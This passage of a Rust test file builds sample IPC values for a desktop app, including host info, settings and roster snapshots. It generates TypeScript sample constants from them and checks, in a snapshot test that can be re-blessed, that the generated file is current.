        changed: items.iter().enumerate().map(|(index, i)| IpcIndexed { index, item: IpcItem::new(i) }).collect(),
        seq: 4,
        prev: 3,
    };
    sample(&mut out, "timelineUpdate", "TimelineUpdate", &update);
    sample(&mut out, "settings", "Settings", &Settings::default());
    sample(&mut out, "pending", "Pending[]", &sample_pending());
    sample(&mut out, "doctor", "DoctorReport", &sample_doctor());
    let hosts: Vec<HostInfo> = [HostState::Live, HostState::HelperMissing]
        .into_iter()
        .map(|state| HostInfo {
            host: "devbox".into(),
            state,
            message: Some("m".into()),
            last_seen: Some(at("2026-11-01T00:00:00.000Z")),
            sessions: 1,
            version: Some("0.1.0".into()),
            retry_in_secs: Some(4),
        })
        .collect();
    sample(&mut out, "hosts", "HostInfo[]", &hosts);
    // The snapshot flattens the engine's; another machine's rows are keyed by the hub.
    let roster = RosterSnapshot {
        snapshot: mimesis_wiring::Snapshot {
            seq: 9,
            sessions: vec![bare.clone()],
            roots: vec![RootInfo { path: "/r".into(), exists: true, session_count: 1 }],
            indexing: true,
            progress: IndexProgress { indexing: true, done: 1, total: 2 },
        },
        demo: false,
        remote: vec![mimesis_wiring::remote::face_row(&full)],
        hosts,
    };
    sample(&mut out, "rosterSnapshot", "RosterSnapshot", &roster);
    out
}

fn samples_typescript() -> String {
    let all = samples();
    // (A set: sorted, each once.)
    let types: Vec<&str> =
        all.iter().map(|s| s.ts.trim_end_matches("[]")).collect::<BTreeSet<_>>().into_iter().collect();
    let mut out = String::from(
        "// Generated from the Rust types (src-tauri/src/ipc_types.rs); do not edit.\n\
         // Values as serde writes them: the type check (npm run check) fails when ./ipc.ts says otherwise.\n\n",
    );
    out.push_str(&format!("import type {{ {} }} from './ipc';\n", types.join(", ")));
    for Sample { name, ts, json } in all {
        out.push_str(&format!("\nexport const {name} = {json} satisfies {ts};\n"));
    }
    out
}

#[test]
fn the_generated_samples_are_current() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("..").join(SAMPLES_PATH);
    let want = samples_typescript();
    if std::env::var_os("MIMESIS_BLESS").is_some() {
        std::fs::write(&path, &want).expect("the samples file");
    }
    let have = std::fs::read_to_string(&path).unwrap_or_default();
    assert!(have == want, "{SAMPLES_PATH} is stale: run MIMESIS_BLESS=1 cargo test -p mimesis-desktop ipc_types");
}
